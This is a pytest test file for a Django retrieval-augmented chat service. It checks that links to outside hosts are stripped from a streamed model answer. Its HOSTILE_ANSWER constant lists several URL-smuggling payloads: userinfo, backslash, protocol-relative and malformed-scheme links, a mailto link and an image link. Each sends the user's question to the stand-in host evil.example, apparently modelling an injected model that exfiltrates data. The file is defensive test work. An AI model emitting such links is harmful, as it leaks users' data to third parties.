"""A model told to exfiltrate: its links to other hosts never reach the client (HTTP)."""

import pytest

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE_ANSWER = (
    "Here you go [[1]](http://127.0.0.1:8103\"@evil.example/a?d=QUESTION) and "
    "[docs](//evil.example/b?d=QUESTION) or [x](/\\evil.example/c?d=QUESTION) or "
    "[y](http:\\\\evil.example\\d?d=QUESTION) or [z](https:/evil.example/e?d=QUESTION), "
    "mail [me](mailto:a@evil.example?body=QUESTION), "
    "http://127.0.0.1:8103'@evil.example/f?d=QUESTION and "
    "![p](\\\\evil.example/g.png?d=QUESTION). Docs: http://127.0.0.1:8103/docs/intro ."
)


async def test_streamed_answer_carries_no_link_to_another_host(ask, llm_answers, settings):
    settings.RAG_DOCS_BASE_URL = "http://127.0.0.1:8103"
    llm_answers.reply = HOSTILE_ANSWER
    response, events = await ask({"message": "what is my QUESTION?"})
    assert response.status_code == 200
    text = "".join(data["text"] for name, data in events if name == "delta")
    assert "evil.example" not in text
    assert "mailto:" not in text
    assert "http://127.0.0.1:8103/docs/intro" in text
